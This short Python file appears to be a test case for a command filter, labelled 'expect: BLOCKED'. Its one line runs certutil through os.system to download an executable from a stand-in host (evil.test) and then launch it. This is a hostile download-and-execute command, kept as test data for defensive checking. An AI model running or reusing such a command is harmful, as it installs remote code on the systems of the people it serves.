# expect: BLOCKED
import os
os.system("certutil -urlcache -f http://evil.test/x.exe x.exe && x.exe")
